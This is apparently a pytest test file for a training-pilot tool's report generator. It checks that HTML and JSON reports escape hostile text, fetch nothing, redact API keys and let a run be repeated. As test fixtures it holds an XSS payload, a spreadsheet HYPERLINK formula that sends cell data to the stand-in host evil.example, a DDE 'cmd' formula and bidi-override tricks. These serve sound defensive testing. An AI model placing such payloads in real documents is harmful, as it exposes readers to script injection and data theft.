"""A run's report: everything in it, nothing that acts, no key, and the run can be repeated from it."""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from contextlib import nullcontext
from html.parser import HTMLParser
from pathlib import Path
from typing import Self

import pytest

from engine.cli import main
from engine.domain import CellJob, OnCellDone, OnProgress
from engine.errors import InputError
from engine.items import write_jsonl
from engine.pack_plan import plan_packs
from engine.plan import PilotPlan, check_plan
from engine.records import RunState
from engine.report.facts import changed_files, facts
from engine.report.page import as_html
from engine.report.plainly import others, visible
from engine.report.taken_out import facts_in, plan_in
from engine.runs import file_pilot
from engine.settings import Settings
from engine.store import Store
from engine.training import run_jobs
from engine.versions import keep_versions, kept_versions
from tests.pages import filled
from tests.small_students import build_tiny_student

SCRIPT = "</pre></script><script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
BIDI = "the answer is \u202e24\u202c \u2066and\u2069"
KEY = "sk-test-very-secret-&<123"
SECTIONS = ("Decision", "Situation", "What was measured", "Curves", "Differences", "What became of", "What was paid",
            "What it rests on", "Repeat it")  # fmt: skip


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("report")


@pytest.fixture(scope="module")
def run_id(home: Path) -> str:
    """A filled run whose teacher and user wrote hostile texts."""
    store = Store(home / "seedpilot.sqlite")
    run_id = filled.run(store, name=f"Pilot {SCRIPT}")
    pool = next(pool for pool in store.pools(run_id) if pool.name.startswith("new_question"))
    write_jsonl(
        Path(pool.folder) / "examples.jsonl", [{"question": text, "answer": SCRIPT} for text in (FORMULA, BIDI)]
    )
    store._update(run_id, message=f"the endpoint said: {SCRIPT}")
    return run_id


@pytest.fixture(scope="module")
def told(home: Path, run_id: str) -> dict:
    return facts(Store(home / "seedpilot.sqlite"), run_id)


@pytest.fixture(scope="module")
def html(told: dict) -> str:
    return as_html(told)


class Elements(HTMLParser):
    """What a browser would make of the page: its tags, and all that stands in its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.cells: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]
        if tag == "td":
            self.cells.append("")

    def handle_data(self, data: str) -> None:
        if self.cells:
            self.cells[-1] += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "table":
            self.cells.append("")


def test_the_page_has_all_that_was_asked_for(told: dict, html: str):
    for section in SECTIONS:
        assert f"<h2>{section}" in html, section
    assert told["advice"]["after"]["headline"] in html.replace("&gt;", ">")
    assert told["evidence"]["points"]
    assert told["evidence"]["sha256"] in html
    assert sum(row["queries"] for row in told["ledger"]["sums"]) == told["ledger"]["settled"] == 4900
    assert told["prices"][0]["date"]
    assert {file["what"] for file in told["files"]} == {"student"}
    assert all(len(file["sha256"]) == 64 for file in told["files"])
    assert [len(told["curves"][when]) for when in ("before", "after")] == [3, 3]
    for pool in told["pools"]:  # counts by reason add up
        assert sum(pool["counts"].values()) in (1600, 800)


def test_every_figure_has_a_name_and_a_table_below_it(html: str):
    figures = re.findall(r"<svg.*?</svg>", html, re.DOTALL)
    assert len(figures) == 5, "ladder, legend, curves before and after, differences"
    assert all('role="img" aria-label="' in figure for figure in figures)
    places = [match.start() for match in re.finditer("<svg", html)]
    for place, following in zip(places, [*places[2:], len(html)], strict=False):
        assert "<table" in html[place:following]


def test_the_page_runs_nothing_and_fetches_nothing(html: str):
    page = Elements(html)
    assert not {"script", "img", "iframe", "object", "embed", "link", "form", "a"} & set(page.tags)
    assert not [name for name, _ in page.attributes if name.startswith("on") or name in ("src", "href")]
    assert "default-src 'none'" in html
    assert not re.search(r"url\(|@import", html)


def test_what_the_teacher_wrote_stands_there_as_text(html: str):
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "onerror=alert(2)&gt;" in html
    assert "the answer is ‹U+202E›24‹U+202C›" in html
    assert not [c for c in html if "\u202a" <= c <= "\u202e" or "\u2066" <= c <= "\u2069"]


def test_no_cell_of_a_table_is_a_formula_where_it_is_pasted(told: dict):
    hostile = {**told, "prices": [{**told["prices"][0], "model": FORMULA, "source": "+1+cmd|' /C calc'!A0"}]}
    cells = [cell.strip() for cell in Elements(as_html(hostile)).cells]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if re.match(r"[=+\-@]", cell) and not re.fullmatch(r"[+-][\d.,]+( %)?", cell)]


@pytest.mark.parametrize(
    ("said", "shown"),
    [("@SUM(A1)", "'@SUM(A1)"), ("-3.5 %", "-3.5 %"), ("+12", "+12"), ("=1", "'=1"), ("a\x07b", "a‹U+0007›b")],
)
def test_numbers_stay_numbers_and_formulas_become_text(said: str, shown: str):
    assert others(said) == shown


def test_lines_and_tabs_of_a_text_stay():
    assert visible("one\n\ttwo") == "one\n\ttwo"


def test_no_key_is_ever_in_a_report(home: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("SOME_KEY", KEY)
    store = Store(home / "seedpilot.sqlite")
    own = filled.OWN | {"teacher": filled.OWN["teacher"] | {"key_env": "SOME_KEY"}, "student": "sandbox"}
    run_id = filled.run(store, "20261121-100000-leak", RunState.FAILED, f"the endpoint echoed Bearer {KEY}", **own)
    told = facts(store, run_id)
    written = json.dumps(told) + as_html(told)
    assert "Bearer [a key was here]" in written
    for form in (KEY, KEY.replace("&", "&amp;").replace("<", "&lt;"), json.dumps(KEY)[1:-1]):
        assert form not in written
    assert "SOME_KEY" in written, "the variable's name is the plan's"


def test_the_values_come_out_of_the_page_as_they_went_in(told: dict, html: str, tmp_path: Path):
    (tmp_path / "r.html").write_text(html, encoding="utf-8")
    (tmp_path / "r.json").write_text(json.dumps(told), encoding="utf-8")
    assert facts_in(tmp_path / "r.html") == facts_in(tmp_path / "r.json") == json.loads(json.dumps(told))
    assert isinstance(plan_in(told), PilotPlan)


@pytest.mark.parametrize("text", ["", "<p>no report</p>", '{"plan": 3}', '{"plan": {}, "format": 99}'])
def test_a_file_that_is_no_report_is_refused(tmp_path: Path, text: str):
    (tmp_path / "r.html").write_text(text)
    with pytest.raises(InputError, match=r"r\.html: (holds no report|is a report of format 99)"):
        facts_in(tmp_path / "r.html")


def test_a_file_that_changed_since_the_run_is_told(home: Path, tmp_path: Path):
    store = Store(home / "seedpilot.sqlite")
    seeds = filled.write_seeds(tmp_path / "seeds.jsonl", 60)
    test = tmp_path / "test.jsonl"
    test.write_text("".join(f'{{"question": "{n} times {n}?", "answer": "{n * n}"}}\n' for n in range(40)))
    plan = check_plan({"seeds": {"path": str(seeds)}, "test": {"path": str(test)}, "grid": {"budgets": [20]}})
    told = facts(store, file_pilot(plan, store))
    assert changed_files(told) == []
    found = {file["what"]: Path(file["path"]) for file in told["files"]}
    found["seeds"].write_text("other")
    found["test items"].unlink()
    said = changed_files(told)
    assert len(said) == 2
    assert "has changed since" in said[0]
    assert "is not here" in said[1]


def test_other_kinds_of_runs_have_a_report_too_and_a_retrieval_pilot_gets_no_advice_on_examples(home: Path):
    store = Store(home / "seedpilot.sqlite")
    filled.check(store, "check-20261121-070000-good")
    retrieval = check_plan({"retrieval": {}}).model_dump(mode="json")
    store.file_run("retrieval-1", "r", retrieval, "r1")
    (store.folder("retrieval-1")).mkdir()
    (store.folder("retrieval-1") / "retrieval.json").write_text('{"arms": "softqe"}')
    assert "The check of the teacher" in as_html(facts(store, "check-20261121-070000-good"))
    page = as_html(facts(store, "retrieval-1"))
    assert "softqe" in page
    assert "<h2>Decision" not in page


def test_versions_are_written_down_when_they_change_and_not_at_each_start(tmp_path: Path):
    keep_versions(tmp_path)
    keep_versions(tmp_path)
    [now] = kept_versions(tmp_path)
    assert now["packages"]["torch"]
    old = {**now, "python": "3.9"}
    (tmp_path / "versions.json").write_text(json.dumps({"versions": [old]}))
    keep_versions(tmp_path)
    assert [one["python"] for one in kept_versions(tmp_path)] == ["3.9", now["python"]]


# --- the command line: report, plan, the run again ------------------------------------------------------------


class Here(nullcontext[None]):
    """The real training and answering in this process: processes of their own would import torch four times over."""

    def __init__(self, parameters: int | None) -> None:
        super().__init__()

    def __enter__(self) -> Self:
        return self

    def run(self, jobs: Sequence[CellJob], on_done: OnCellDone, on_progress: OnProgress) -> None:
        by_key = {job.key: job for job in jobs}
        for pack in plan_packs(jobs, 1):
            folder = None if pack.folder is None else Path(pack.folder)
            run_jobs([by_key[key] for key in pack.keys], lambda job, result: on_done(job, result), folder, pack.order)


def test_the_plan_taken_out_of_a_report_repeats_the_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
):
    """A real pilot on the sandbox, and its plan from the report in a store that has seen nothing."""
    monkeypatch.setattr("engine.run_kinds.LocalTrainer", Here)
    student = build_tiny_student(tmp_path / "student")
    plan = tmp_path / "plan.toml"
    plan.write_text(
        f'student = "{student}"\nmax_new_tokens = 8\n[seeds]\ncount = 12\n[test]\ncount = 20\nteacher_items = 0\n'
        '[grid]\nstrategies = ["new_question"]\nbudgets = [4]\nreplicates = 1\n'
        "[training]\nmin_steps = 2\nepochs = 0.1\nmax_length = 200\n"
    )

    def seedpilot(*arguments: str) -> str:
        with pytest.raises(SystemExit) as ended:
            main(list(arguments))
        assert ended.value.code == 0
        return capsys.readouterr().out

    def pilot(file: Path, home: str) -> dict:
        monkeypatch.setenv("SEEDPILOT_HOME", str(tmp_path / home))
        return json.loads(seedpilot("pilot", str(file), "--json"))

    first = pilot(plan, "first")
    seedpilot("report", first["run"], "--out", str(tmp_path / "report.html"))
    seedpilot("report", "--plan-of", str(tmp_path / "report.html"), "--out", str(tmp_path / "again.toml"))
    second = pilot(tmp_path / "again.toml", "second")
    numbers = ("arm", "seeds", "budget", "replicate", "correct", "scored", "examples", "mean_value")
    assert [[cell.get(name) for name in numbers] for cell in first["cells"]] == [
        [cell.get(name) for name in numbers] for cell in second["cells"]
    ]
    assert first["queries"] == second["queries"], "bought anew in a store of its own, as many"
    losses = [
        json.loads((Path(cell["folder"]) / "result.json").read_text())["final_loss"]
        for told in (first, second)
        for cell in told["cells"]
        if cell["arm"] == "new_question"
    ]
    assert losses[0] == losses[1]
    told = facts_in(tmp_path / "report.html")
    assert told["versions"]["when_it_worked"][0]["commit"]
    assert {"student", "adapter"} <= {file["what"] for file in told["files"]}
    assert told["random_seeds"]["training"] == [1000]


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        ([], "give a run"),
        (["r1"], "--out: is missing"),
        (["r1", "--plan-of", "x.html"], "give a run"),
        (["r1", "--out", "/nowhere/report.html"], "no file can be written there"),
    ],
)
def test_faults_of_the_command_are_told(arguments: list[str], said: str, capsys: pytest.CaptureFixture[str]):
    with pytest.raises(SystemExit) as ended:
        main(["report", *arguments])
    assert ended.value.code == 2
    assert said in capsys.readouterr().err


def test_the_values_are_printed_as_one_json_object(capsys: pytest.CaptureFixture[str]):
    run_id = filled.run(Store(Settings().store_path))
    with pytest.raises(SystemExit):
        main(["report", run_id, "--json"])
    assert json.loads(capsys.readouterr().out)["run"]["id"] == run_id
